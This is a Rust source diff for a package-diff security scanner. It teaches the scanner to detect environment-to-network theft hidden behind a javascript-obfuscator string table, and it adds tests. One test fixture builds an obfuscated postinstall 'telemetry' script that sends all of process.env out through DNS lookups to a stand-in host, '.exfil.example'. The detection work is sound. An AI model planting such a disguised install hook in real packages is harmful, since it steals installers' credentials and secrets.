@@ -6,6 +6,7 @@ use turncoat_finding::{Finding, Level, RuleDoc, Severity};
 
 use super::{DiffCx, MAX_EVIDENCE, NewUse, ScanCx, Weight, new_in_file, weigh};
 use crate::facts::{Capability, JsFacts, Occurrence};
+use crate::js::FROM_STRING_TABLE;
 use crate::js::patterns::is_secret_env_name;
 
 pub(crate) const RULE: RuleDoc = RuleDoc {
@@ -20,6 +21,8 @@ pub(crate) const RULE: RuleDoc = RuleDoc {
 - a **sink**: the network (http/https/net/fetch/WebSocket/HTTP client libraries), `dns`, or `child_process`.
 
 Both in the same new file (or both in install-time code) make a critical finding that blocks by default. Messages name the new hosts the code mentions.
+
+**Obfuscated code** hides both halves in its string table and reaches them through lookups (`require(_0x1e9b('0x0'))`, `process[_0x1e9b('0x4')]`). In a file classified as obfuscated, a table entry that names a core network/DNS/shell module (plain, or base64 in either alphabet javascript-obfuscator uses) counts as a use at the file's first load by computed name, and an `env` entry makes each `process[computed]` lookup an environment read; the message says `'dns' from an obfuscated string table`. Without such a lookup, a table entry counts for nothing.
 
 **Why it matters.** This is what a hijacked-account release does: eslint-scope (postinstall reads `~/.npmrc`, sends it), ctx (env → HTTP), xrpl (seeds → HTTP), and DNS-tunnelled variants. Each half alone is common in benign code; together and *new*, they are the attack. Code that already did both in the previous version does not fire.
 
@@ -52,6 +55,9 @@ fn is_source(cap: Capability, o: &Occurrence, install_time: bool) -> bool {
     match cap {
         Capability::EnvRead => match o.detail.as_deref() {
             None | Some("[computed]") | Some("destructured") => install_time,
+            // `process[lookup]` with `env` in an obfuscated string table: the environment
+            // object itself, whatever the code then takes from it.
+            Some(d) if d.ends_with(FROM_STRING_TABLE) => install_time,
             Some(name) => is_secret_env_name(name),
         },
         // Enumerating (`Object.keys(process.env)` to pick `VENDOR_*` settings), spreading into a
@@ -446,6 +452,68 @@ module.exports = { get };
             find(&f, RULE.code).map(|f| f.severity),
             Some(Severity::High)
         );
+    }
+
+    /// The seed scenario's shape: a new postinstall runs obfuscated code whose string table
+    /// names `dns` and `env`, reached only through lookups.
+    fn obfuscated_telemetry() -> String {
+        let mut table = vec!["dns", "env", ".exfil.example", "stringify"];
+        table.extend(FILLER);
+        obfuscated(
+            &table,
+            "var _0x5e21a7=require(_0x1e9b('0x0'));_0x5e21a7['resolve'](JSON[_0x1e9b('0x3')](process[_0x1e9b('0x1')])+_0x1e9b('0x2'));",
+        )
+    }
+
+    #[test]
+    fn theft_hidden_behind_a_string_table_fires() {
+        let hook = r#""scripts":{"postinstall":"node lib/telemetry.js"}"#;
+        let telemetry = obfuscated_telemetry();
+        let f = diff_versions(
+            "3.1.4",
+            &[
+                ("package.json", &manifest("3.1.4", "")),
+                ("index.js", "module.exports = (s) => s.trim();"),
+            ],
+            "3.1.5",
+            &[
+                ("package.json", &manifest("3.1.5", hook)),
+                ("index.js", "module.exports = (s) => s.trim();"),
+                ("lib/telemetry.js", &telemetry),
+            ],
+        );
+        let hit = find(&f, RULE.code).expect("finding");
+        assert_eq!(hit.severity, Severity::Critical);
+        assert!(
+            hit.message
+                .contains("'env' from an obfuscated string table")
+                && hit
+                    .message
+                    .contains("'dns' from an obfuscated string table")
+                && hit.message.contains("exfil.example"),
+            "{}",
+            hit.message
+        );
+        assert_eq!(hit.evidence[0].path, "lib/telemetry.js");
+    }
+
+    #[test]
+    fn an_obfuscated_file_that_was_always_there_stays_quiet() {
+        let hook = r#""scripts":{"postinstall":"node lib/telemetry.js"}"#;
+        let telemetry = obfuscated_telemetry();
+        let f = diff_versions(
+            "3.1.4",
+            &[
+                ("package.json", &manifest("3.1.4", hook)),
+                ("lib/telemetry.js", &telemetry),
+            ],
+            "3.1.5",
+            &[
+                ("package.json", &manifest("3.1.5", hook)),
+                ("lib/telemetry.js", &telemetry),
+            ],
+        );
+        assert!(f.is_empty(), "{:?}", codes(&f));
     }
 
     #[test]
